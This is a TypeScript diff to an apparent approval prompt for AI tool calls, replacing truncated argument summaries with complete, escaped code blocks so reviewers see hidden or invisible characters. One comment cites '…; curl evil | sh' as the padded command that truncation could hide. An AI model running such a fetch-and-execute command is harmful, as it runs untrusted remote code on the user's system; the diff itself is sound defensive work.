@@ -24,33 +24,54 @@ export function parseApprovalAction(id: string): { approve: boolean; approvalId:
   return { approve: match[1] === APPROVE, approvalId: match[2] };
 }
 
-/** Longest argument value shown in a request; the rest is elided with its length. */
-const VALUE_MAX = 120;
-const ARGUMENTS_MAX = 700;
-
-/** One call as a person reads it: where it runs, what it is, its arguments in short. */
+/**
+ * One call as a person reads it: where it runs, what it is, and every byte of its arguments.
+ * Nothing is cut (a request that hid `…; curl evil | sh` after padding would approve it unseen):
+ * long arguments make a long message, which the platforms' splitters carry over several parts
+ * with the code block reopened in each.
+ */
 export function describeCall(call: WaitingCall): string {
-  const where = call.server && call.tool ? `**${call.tool}** on server **${call.server}**` : `**${call.name}**`;
+  const where = call.server && call.tool ? `${inlineCode(call.tool)} on server ${inlineCode(call.server)}` : inlineCode(call.name);
   return `${where}\n${summariseArguments(call.arguments)}`;
 }
 
+/**
+ * The arguments in a code block, exactly: JSON pretty-printed (names and values quoted and
+ * escaped, so a name holding a line break cannot forge a line of the request), anything else
+ * as it came. Characters a reader could not see, and backticks (which could end the block),
+ * are written as `\uXXXX` — in JSON the same value.
+ */
 export function summariseArguments(raw: string): string {
   let parsed: unknown;
   try {
     parsed = raw.trim() === "" ? {} : JSON.parse(raw);
   } catch {
-    return `arguments (not JSON): ${shorten(raw)}`;
+    return `arguments (not JSON, ${raw.length} characters, exactly):\n${codeBlock(visible(raw, { keepLineBreaks: true, raw: true }))}`;
   }
-  if (typeof parsed !== "object" || parsed === null || Array.isArray(parsed)) return `arguments: ${shorten(JSON.stringify(parsed))}`;
-  const entries = Object.entries(parsed);
-  if (entries.length === 0) return "no arguments";
-  const lines = entries.map(([key, value]) => `• ${key}: ${shorten(typeof value === "string" ? JSON.stringify(value) : JSON.stringify(value) ?? "null")}`);
-  const joined = lines.join("\n");
-  return joined.length <= ARGUMENTS_MAX ? joined : `${joined.slice(0, ARGUMENTS_MAX)}… (${entries.length} arguments)`;
+  if (typeof parsed === "object" && parsed !== null && !Array.isArray(parsed) && Object.keys(parsed).length === 0) return "no arguments";
+  return `arguments:\n${codeBlock(visible(JSON.stringify(parsed, null, 2), { keepLineBreaks: true, raw: false }), "json")}`;
 }
 
-function shorten(text: string): string {
-  return text.length <= VALUE_MAX ? text : `${text.slice(0, VALUE_MAX)}… (${text.length} characters)`;
+/** Control and invisible characters (bidi overrides, zero-width, variation selectors, tag characters) and the backtick. */
+const UNSEEN = /[\u0000-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb`]|[\u{e0000}-\u{e007f}]/gu;
+/** The same and the backslash, for text that is not JSON: there `\u0060` must not be ambiguous. */
+const UNSEEN_RAW = new RegExp(`${UNSEEN.source}|\\\\`, "gu");
+
+/** Each such character as `\uXXXX` (UTF-16 units); line breaks kept where the text is shown as lines. */
+function visible(text: string, options: { keepLineBreaks: boolean; raw: boolean }): string {
+  return text.replace(options.raw ? UNSEEN_RAW : UNSEEN, (character) =>
+    options.keepLineBreaks && character === "\n"
+      ? character
+      : Array.from({ length: character.length }, (_, index) => `\\u${character.charCodeAt(index).toString(16).padStart(4, "0")}`).join(""));
+}
+
+function codeBlock(text: string, language = ""): string {
+  return `\`\`\`${language}\n${text}\n\`\`\``;
+}
+
+/** A name in inline code, every character visible, and never able to leave the code span. */
+function inlineCode(name: string): string {
+  return `\`${visible(name, { keepLineBreaks: false, raw: true })}\``;
 }
 
 export function approvalRequestText(pending: PendingApproval, timeoutMs: number): string {
